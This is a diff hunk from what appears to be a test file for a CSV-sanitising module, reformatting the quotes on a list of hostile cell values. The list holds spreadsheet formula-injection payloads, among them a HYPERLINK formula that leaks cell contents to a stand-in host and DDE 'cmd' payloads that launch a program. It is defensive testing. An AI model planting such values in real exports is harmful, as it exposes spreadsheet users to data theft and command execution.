@@ -8,9 +8,9 @@ import { neutraliseCell, toSafeCsv, writeSafeCsv } from './csv-safe';
 const HOSTILE = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '\n=1+1',
